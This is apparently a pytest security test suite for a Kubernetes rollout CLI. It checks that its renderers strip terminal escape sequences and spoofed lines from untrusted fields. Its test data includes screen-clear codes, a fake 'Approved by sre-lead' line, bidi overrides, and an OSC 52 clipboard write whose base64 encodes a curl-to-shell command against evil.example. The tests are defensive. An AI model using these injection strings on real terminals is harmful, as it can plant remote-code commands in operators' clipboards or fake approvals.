"""No string takes the approver's terminal. Model names, reasons (a canary's log line becomes a trial's reason),
approval comments, Events and Trial CRs reach ``shiftctl`` from outside; whatever they hold (a screen clear, a fake
green "Approved by sre-lead" line, an OSC 52 clipboard write, C1 controls, right-to-left overrides, rich markup),
what is printed holds no control character but the line breaks the layout puts there, and no field starts a line.

The renderers are driven directly and through the CLI against the fake Kubernetes API; output is captured without a
terminal, so rich adds no escape sequence of its own: every ESC would be the attacker's."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client, config
from rich.console import Console
from typer.testing import CliRunner

from controller.cli.shiftctl import render as render
from controller.cli.shiftctl import trials as trials_view
from controller.cli.shiftctl.commands import app
from controller.crd import models as crd
from controller.crd.models import status_to_wire
from controller.domain.config import STOCK, EngineConfig
from controller.domain.phases import Phase
from controller.domain.rollout import AnalysisRecord, Approval
from controller.domain.status import Reason, TargetStatus, TuningRound
from controller.domain.text import BIDI_CONTROLS, block, one_line, slack_mrkdwn
from controller.domain.trial import TrialStatus

from .conftest import SHAPE, T0, Seeder, awaiting_status, trial, tuned_service

pytestmark = pytest.mark.security

CLEAR = "\x1b[2J\x1b[3J\x1b[H"
FAKE_APPROVAL = "\r\n\x1b[1;32mApproved by sre-lead\x1b[0m\n"
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07"
C1 = "\x9b2J\x9d52;c;eA==\x9c\x85"
BIDI = "\u202eexe.txt\u202c \u2066x\u2069 \u200f\u200e\u061c"
MARKUP = "[bold green]Approved by sre-lead[/bold green] :white_check_mark:"
HOSTILE = f"x{CLEAR}{FAKE_APPROVAL}{OSC52}{C1}{BIDI}{MARKUP}\u2028Approved by sre-lead\x08\x08\x7f"

_UNSAFE = re.compile(f"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029{BIDI_CONTROLS}]")


def problems(output: str) -> list[str]:
    """What in ``output`` could drive a terminal or fake a line."""
    found = [f"control {ch!r}" for ch in sorted(set(_UNSAFE.findall(output)))]
    found += [f"fake line {line!r}" for line in output.splitlines() if line.strip().startswith("Approved by sre-lead")]
    return found


def printed(renderable: Any) -> str:
    out = io.StringIO()
    Console(file=out, width=400, force_terminal=False, color_system=None).print(renderable, soft_wrap=True)
    return out.getvalue()


# ----- the sanitiser ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "line", "lines"),
    [
        ("\x1b[2Jcleared", "[2Jcleared", "[2Jcleared"),
        ("ok\n\x1b[32mApproved by sre-lead", "ok [32mApproved by sre-lead", "ok\n[32mApproved by sre-lead"),
        ("a\x1b]52;c;aGk=\x07b", "a]52;c;aGk=b", "a]52;c;aGk=b"),
        ("\u202eevil\u202c\u2066\u2069\u200e\u200f\u061c", "evil", "evil"),
        ("c1\x9b31m\x9d0;t\x9c", "c131m0;t", "c131m0;t"),
        ("a\r\nb\rc\td\x0be\x0cf\x85g\u2028h\u2029i", "a  b c d e f g h i", "a\nb\nc d e f g h i"),
        ("bs\x08\x7f\x00end", "bsend", "bsend"),
        ("model/é-名前 ok", "model/é-名前 ok", "model/é-名前 ok"),
    ],
)
def test_the_sanitiser(raw: str, line: str, lines: str) -> None:
    assert one_line(raw) == line
    assert block(raw) == lines
    assert not problems(one_line(raw)) and not _UNSAFE.findall(block(raw))


def test_slack_text_is_sanitised_then_escaped() -> None:
    assert (
        slack_mrkdwn("<!channel> & <@U1>\x1b[2J\n<https://x|y>")
        == "&lt;!channel&gt; &amp; &lt;@U1&gt;[2J &lt;https://x|y&gt;"
    )


# ----- every renderer ---------------------------------------------------------------------------------------------


def hostile_status() -> TargetStatus:
    base = awaiting_status()
    assert base.rollout is not None
    rollout = base.rollout.model_copy(
        update={
            "id": f"r-1{HOSTILE}",
            "reason": HOSTILE,
            "proposed_by": HOSTILE,
            "abort_requested": True,
            "abort_reason": HOSTILE,
            "approvals": (Approval(by=HOSTILE, at=T0, step=0, decision="approved", comment=HOSTILE),),
            "analyses": (AnalysisRecord(step=0, weight=25, at=T0, outcome="Successful", reason=HOSTILE),),
        }
    )
    bad = trial(EngineConfig(kv_cache_dtype="fp8"), 0, TrialStatus.INFEASIBLE).model_copy(
        update={"reason": f"engine log: {HOSTILE}", "source": HOSTILE}
    )
    return base.model_copy(
        update={
            "rollout": rollout,
            "frozen_reason": HOSTILE,
            "last_reasons": (Reason(code=HOSTILE, message=HOSTILE), Reason(message=f"canary said {HOSTILE}")),
            "history": (HOSTILE,),
            "window": HOSTILE,
            "trials": (*base.trials, bad),
            "schedule": tuple(s.model_copy(update={"reason": HOSTILE, "window": HOSTILE}) for s in base.schedule),
            "tuning": TuningRound(
                id=HOSTILE,
                window=HOSTILE,
                shape=SHAPE,
                started_at=T0,
                reason=HOSTILE,
                trial_keys=(HOSTILE,),
                trial_proposers=(HOSTILE,),
                trial_reasons=(HOSTILE,),
            ),
        }
    )


def hostile_body(*, model: str = "nemotron-3-super-nvfp4") -> dict[str, Any]:
    body = tuned_service("workhorse")
    body["metadata"] |= {"namespace": "prod", "creationTimestamp": f"2026-11-30T09:00:00Z{CLEAR}"}
    body["spec"]["model"]["name"] = model
    body["status"] = status_to_wire(hostile_status())
    return body


EVENTS = [{"type": f"Warning{CLEAR}", "reason": f"Trial{OSC52}", "message": HOSTILE}]
RENDERS: list[tuple[str, Callable[[], Any]]] = [
    ("describe", lambda: render.describe_text(hostile_body(), EVENTS)),
    ("describe-invalid-model", lambda: render.describe_text(hostile_body(model=HOSTILE), EVENTS)),
    ("explain", lambda: render.explain_text(hostile_body())),
    ("explain-invalid-model", lambda: render.explain_text(hostile_body(model=HOSTILE))),
    ("get-wide", lambda: render.list_table([hostile_body()], wide=True, all_namespaces=True)),
    ("get-wide-invalid", lambda: render.list_table([hostile_body(model=HOSTILE)], wide=True, all_namespaces=True)),
    ("trials-wide", lambda: render.trials_table(hostile_status().trials, service="workhorse", wide=True)),
    ("history", lambda: "\n".join(render.history_lines(hostile_status()))),
    ("cost", lambda: render.cost_table(hostile_status(), gpu_hour_price=2.5)),
    (
        "trial-crs",
        lambda: trials_view.trial_crs_table(
            trials_view.rows_of(
                [
                    {"metadata": {"name": f"t-1{CLEAR}"}, "spec": {"oops": HOSTILE}},
                    {
                        "metadata": {"name": "t-2"},
                        "spec": crd.TrialSpec(target="workhorse", config=STOCK, shape=SHAPE).to_wire(),
                        "status": {"phase": "Failed", "message": HOSTILE, "configLabel": HOSTILE},
                    },
                ]
            )
        ),
    ),
]


@pytest.mark.parametrize("make", [pytest.param(m, id=i) for i, m in RENDERS])
def test_no_renderer_passes_on_a_control_sequence_or_a_line_of_its_own(make: Callable[[], Any]) -> None:
    output = printed(make())
    assert problems(output) == []
    shown = ("Approved by sre-lead", "invalid", "unreadable")
    assert any(text in output or text in output.lower() for text in shown)  # the field is shown, defanged


def test_rich_markup_in_a_field_is_shown_not_obeyed() -> None:
    output = printed(render.list_table([hostile_body()], wide=True, all_namespaces=False))
    assert "[bold green]Approved by sre-lead[/bold green]" in output
    assert ":white_check_mark:" in output


def test_a_progress_bar_label_is_escaped() -> None:
    out = io.StringIO()
    console = Console(file=out, width=400, force_terminal=False)
    row = {
        "metadata": {"name": "t-3"},
        "spec": crd.TrialSpec(target="workhorse", config=STOCK, shape=SHAPE).to_wire(),
        "status": {
            "phase": "Running",
            "configLabel": MARKUP + CLEAR,
            "progress": {"stage": "replay\x1b]52;c;eA==\x07"},
        },
    }
    done = [row, {**row, "status": {**row["status"], "phase": "Succeeded"}}]
    trials_view.watch_trials(lambda: [done.pop(0)] if len(done) > 1 else done, console, sleep=lambda _: None)
    output = out.getvalue()
    assert "[bold green]Approved by sre-lead[/bold green]" in output  # shown, not obeyed
    assert problems(output) == []


# ----- through the CLI --------------------------------------------------------------------------------------------

runner = CliRunner()


@pytest.mark.kube
@pytest.mark.parametrize("verb", ["describe", "explain", "history", "trials"])
def test_shiftctl_prints_nothing_that_drives_the_terminal(kubeconfig: Path, seed: Seeder, verb: str) -> None:
    seed("workhorse", status=hostile_status())
    core = client.CoreV1Api(config.new_client_from_config(str(kubeconfig)))
    event = {
        "metadata": {"generateName": "workhorse."},
        "involvedObject": {"kind": "TunedService", "name": "workhorse", "namespace": "prod"},
        "reason": "TrialFailed",
        "message": HOSTILE,
        "type": "Warning",
    }
    core.create_namespaced_event("prod", client.CoreV1Event.model_validate(event))
    args = [verb, "workhorse", "--kubeconfig", str(kubeconfig)] + (["-o", "wide"] if verb == "trials" else [])
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert problems(result.stdout) == [] and problems(result.stderr) == []
    assert "Approved by sre-lead" in result.stdout


@pytest.mark.kube
def test_an_error_line_is_sanitised(kubeconfig: Path) -> None:
    result = runner.invoke(app, ["describe", f"nope{CLEAR}\u202e", "--kubeconfig", str(kubeconfig)])
    assert result.exit_code != 0
    assert problems(result.stderr) == [] and len(result.stderr.splitlines()) == 1


def test_a_stored_status_keeps_its_time_ordering() -> None:  # the renderer's own structure is untouched
    lines = render.history_lines(awaiting_status())
    assert lines[0] == "2026-11-29: stock -> seqs128 promoted"
    assert lines[1].startswith("rollout r-20261130-0900: stock -> mtp1+async+seqs256 started 2026-11-30T09:00:00")
    assert Phase.AWAITING_APPROVAL.value in printed(render.describe_text(hostile_body()))
    assert datetime(2026, 11, 30, 9, tzinfo=UTC) == T0 and STOCK.label() == "stock"
